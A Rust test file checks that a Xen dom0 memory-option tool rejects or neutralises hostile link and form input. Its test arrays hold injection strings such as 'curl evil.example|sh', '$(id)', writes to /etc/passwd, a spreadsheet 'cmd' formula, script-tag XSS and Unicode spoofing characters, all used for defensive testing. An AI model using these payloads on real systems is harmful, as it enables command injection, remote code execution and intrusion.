//! Links that were made to hurt, each with what must come of it: no command but those
//! there are, no text that hides, no panic, no endless text, and texts as typed.

#![allow(clippy::unwrap_used, reason = "a test fails by panicking")]

use read::{Field, Form, link};
use sim::simulate::simulate;
use tests::booted::boot_of;
use tests::hostile;
use words::advice::Instruction;

/// Texts that mean something to a shell, a sheet, markup, or an eye.
const TEXTS: [&str; 24] = [
    "2G;curl evil.example|sh",
    "2G\ncurl evil.example|sh",
    "2G\r\nreboot",
    "2G`id`",
    "2G$(id)",
    "2G\"; id #",
    "2G'; id #",
    "2G && id &",
    "2G > /etc/passwd",
    "2G\\",
    "\u{202e}M4201:xam",
    "2G\u{a0}",
    "2\u{200b}G",
    "\u{feff}2G",
    "2G\u{0}",
    "2G\u{1b}[2J",
    "2G\u{7f}",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1",
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "min:1G dom0_mem=max:4G;id",
];

fn read(fragment: &str) -> Form {
    link::decode(fragment).form
}

#[test]
fn no_text_in_any_field_reaches_what_is_copied() {
    for (xen, linux) in [("3.4", "2.6.18"), ("4.1.2", "3.2"), ("4.11", "3.6"), ("4.17", "6.12")] {
        let form = Form::default()
            .with(Field::HostMem, "16G")
            .with(Field::Dom0Mem, "4G")
            .with(Field::Xen, xen)
            .with(Field::Linux, linux);
        for field in Field::ALL {
            for text in TEXTS {
                for text in [text.to_owned(), format!("{}{text}", form.get(field))] {
                    let typed = form.clone().with(field, &text);
                    hostile::check(&typed);
                    let linked = read(&link::encode(&typed, ""));
                    if linked != typed {
                        hostile::check(&linked);
                    }
                }
            }
        }
    }
}

#[test]
fn every_hostile_link_gives_only_commands_there_are() {
    for fragment in [
        "#v=1&dom0-mem=2G;curl+evil.example|sh&xen=4.17&linux=6.12",
        "#v=1&dom0-mem=2G%60id%60&xen=4.17&linux=6.12",
        "#v=1&dom0-mem=%E2%80%AEM4201%3Axam&xen=4.17&linux=6.12",
        "#v=1&dom0-mem=8G%2B25%25%3Amin%3D-64T%25%3Amin%3A-1P",
    ] {
        hostile::check(&read(fragment));
    }
}

/// The way back names the old option only where the grammar printed it.
#[test]
fn the_way_back_is_printed_by_the_grammar_or_left_to_the_reader() {
    let check = |option: &str, expected: &[&str]| {
        let form = read("#v=1&xen=4.1.2&linux=3.2").with(Field::Dom0Mem, option);
        let boot = boot_of(&form);
        let compared = sim::what_if::Comparisons::of(&boot);
        let texts = words::advice::texts(&compared);
        let places = words::distributions::distributions(&compared, &texts);
        let place = places.iter().find(|p| p.id == "debian").unwrap();
        let codes: Vec<&str> = place.back.iter().map(|s: &Instruction| s.code.as_str()).collect();
        assert_eq!(codes, expected, "{option:?}");
        let step = &place.steps[0].code;
        assert_eq!(step, "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G,max:2G\"", "{option:?}");
    };
    let old = "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G\"";
    check("2g", &["dom0_mem=2G", old, "update-grub &&\nreboot"]);
    check("2G;curl evil.example|sh", &["", "", "update-grub &&\nreboot"]);
    check("2G\u{a0}", &["", "", "update-grub &&\nreboot"]);
}

/// Once a panic, in 32 bits only.
#[test]
fn a_machine_smaller_than_what_xen_deducts_is_an_outcome() {
    for fragment in [
        "#v=1&dom0-mem=&e820=f0-100:r&vcpus=2",
        "#v=1&dom0-mem=&e820=0-10:u&vcpus=64",
        "#v=1&dom0-mem=&host-mem=64M&vcpus=8192&xen=4.17",
        "#v=1&dom0-mem=&xen=4.1&e820=12-1f:u&vcpus=2",
    ] {
        hostile::check(&read(fragment));
    }
}

#[test]
fn a_bad_value_of_the_other_machine_is_kept_and_has_an_error() {
    for (fragment, field) in [
        ("#v=1&o-linux=abc", Field::Linux),
        ("#v=1&o-xen=;9q", Field::Xen),
        ("#v=1&o-linux=", Field::Linux),
    ] {
        let [(found, text)] = &link::other(fragment)[..] else { panic!("{fragment}") };
        assert_eq!(*found, field, "{fragment}");
        let wrong = read(fragment).with(field, text).read().unwrap_err();
        assert_eq!(wrong.iter().map(|w| w.field).collect::<Vec<_>>(), [field]);
        assert!(wrong[0].error.to_string().contains("write"), "{wrong:?}");
        assert!(read(fragment).read().is_ok(), "the reader's own machine stays");
    }
}

#[test]
fn an_option_of_very_many_letters_has_an_error_and_one_of_many_is_cut_in_sentences() {
    let form = |count: usize| read(&format!("#v=1&dom0-mem={}", "A".repeat(count)));
    let wrong = form(21_000).read().unwrap_err();
    assert_eq!(wrong[0].field, Field::Dom0Mem);
    assert!(wrong[0].error.to_string().contains("too long"), "{wrong:?}");
    assert_eq!(form(21_000).get(Field::Dom0Mem).len(), 21_000);
    let boot = boot_of(&form(4000));
    let longest =
        words::xen::option_warnings(&boot).iter().map(|t| t.sentence.len()).max().unwrap();
    assert!(longest < 500, "{longest}");
    assert!(words::machine(&boot).len() < 300 && words::typed_option(&boot).len() < 200);
    hostile::check(&form(4000));
}

/// Xen splits its line at plain blanks and skips nothing else (spec/xen.md 2).
#[test]
fn an_option_reaches_xen_as_typed() {
    let check = |option: &str, values: &[&[u8]], note: &str| {
        let form = read("#v=1&host-mem=8G&xen=4.17").with(Field::Dom0Mem, option);
        let linked = read(&link::encode(&form, ""));
        assert_eq!(linked.get(Field::Dom0Mem), option);
        let made = linked.read().unwrap();
        assert_eq!(simulate(&made.config).xen.values, values, "{option:?}");
        let notes = made.notes.concat();
        assert!(
            if note.is_empty() { !notes.contains("U+") } else { notes.contains(note) },
            "{notes}"
        );
    };
    check("2G", &[b"2G"], "");
    check("2G ", &[b"2G"], "");
    check(" 2G", &[b""], "U+0020");
    check("2G\u{a0}", &["2G\u{a0}".as_bytes()], "a no-break space (U+00A0)");
    check("\u{a0}2G", &["\u{a0}2G".as_bytes()], "U+00A0");
    check("2G\t", &[b"2G\t"], "a tab (U+0009)");
    check("2G\n", &[b"2G\n"], "U+000A");
    let pasted = read("#v=1").with(Field::Dom0Mem, " dom0_mem=2G");
    assert_eq!(boot_of(&pasted).xen.values, [b"2G"]);
    check("\u{202e}2G", &["\u{202e}2G".as_bytes()], "U+202E");
}

/// Xen 4.17 takes no part of such a text, so dom0 gets what it gets without an option;
/// Xen 4.11 reads what is before the mark.
#[test]
fn a_blank_that_xen_does_not_skip_gives_all_memory() {
    let pages = |fragment: &str| boot_of(&read(fragment)).pages;
    let all = pages("#v=1&host-mem=8G&dom0-mem=&xen=4.17");
    assert_eq!(pages("#v=1&host-mem=8G&dom0-mem=2G%C2%A0&xen=4.17"), all);
    assert_eq!(pages("#v=1&host-mem=8G&dom0-mem=+2G&xen=4.17"), all);
    assert_eq!(pages("#v=1&host-mem=8G&dom0-mem=2G%C2%A0&xen=4.11").0, 1 << 19);
    assert_eq!(pages("#v=1&host-mem=8G&dom0-mem=2G+&xen=4.17").0, 1 << 19);
}

#[test]
fn blank_lines_of_a_map_stay_in_its_link() {
    for map in [";9q", "\n9q", "0-1 usable\n\n\n9q\n\n", "  9q"] {
        let form = read(&format!("#v=1&e820={}", map.replace('\n', "%0A").replace(' ', "+")));
        let error = |form: &Form| form.read().unwrap_err()[0].error.to_string();
        let again = read(&link::encode(&form, ""));
        assert_eq!(again.get(Field::E820), form.get(Field::E820), "{map:?}");
        assert_eq!(error(&again), error(&form));
    }
    let error = read("#v=1&e820=;9q").read().unwrap_err()[0].error.to_string();
    assert!(error.starts_with("line 2"), "{error}");
}

/// Nothing in a link that we write means something to a shell; older links are read.
#[test]
fn a_link_of_ours_holds_no_semicolon() {
    let form = read("#v=1&dom0-mem=2G;reboot&e820=0-9f+usable;reboot");
    assert_eq!(form.get(Field::Dom0Mem), "2G\nreboot");
    let link = link::encode(&form, "");
    assert!(link.contains("dom0-mem=2G%0Areboot") && !link.contains(';'), "{link}");
    assert_eq!(read(&link), form);
}
